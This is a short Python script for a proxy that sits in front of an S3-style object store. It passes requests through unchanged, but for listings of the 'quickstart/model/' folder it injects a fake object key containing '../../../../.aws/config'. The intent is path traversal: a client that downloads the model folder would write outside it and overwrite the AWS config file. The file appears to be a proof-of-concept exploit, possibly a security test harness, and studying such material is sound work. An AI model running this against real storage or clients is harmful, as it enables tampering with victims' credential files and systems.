"""A proxy of the real store, which adds a key to the model's folder that leads out of it.

Whoever may write the bucket can make such a key. The proxy runs from any image with Python. It passes each
request to UPSTREAM unchanged, so that its signature stays valid.
"""

from __future__ import annotations

import os
import signal
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

UPSTREAM = ("objects", 7070)
PORT = 7070
FOLDER = "quickstart/model/"
KEY = f"{FOLDER}../../../../.aws/config"
ENTRY = (
    f"<Contents><Key>{KEY}</Key><LastModified>2026-01-01T00:00:00Z</LastModified>"
    '<ETag>"0"</ETag><Size>1</Size><StorageClass>STANDARD</StorageClass></Contents></ListBucketResult>'
)
OWN = ("connection", "expect", "keep-alive", "transfer-encoding")
"""Headers that belong to one connection, and are not passed on."""


class Store(BaseHTTPRequestHandler):
    """Passes requests on to the real store."""

    protocol_version = "HTTP/1.1"

    def pass_on(self) -> None:
        """Pass on one request."""
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        sent = {name: value for name, value in self.headers.items() if name.lower() not in OWN}
        upstream = HTTPConnection(*UPSTREAM, timeout=60)
        try:
            upstream.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in sent.items():
                upstream.putheader(name, value)
            upstream.endheaders(body or None)
            answer = upstream.getresponse()
            found = answer.read()
        finally:
            upstream.close()
        if self.command == "GET" and parse_qs(urlsplit(self.path).query).get("prefix") == [FOLDER]:
            found = found.replace(b"</ListBucketResult>", ENTRY.encode())
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in (*OWN, "content-length", "date", "server"):
                self.send_header(name, value)
        size = answer.getheader("Content-Length") if self.command == "HEAD" else len(found)
        if size is not None:
            self.send_header("Content-Length", str(size))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(found)

    do_GET = do_PUT = do_POST = do_DELETE = do_HEAD = pass_on

    def log_message(self, format: str, *args: object) -> None:
        """Log nothing, because nobody reads it."""


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    ThreadingHTTPServer(("", PORT), Store).serve_forever()
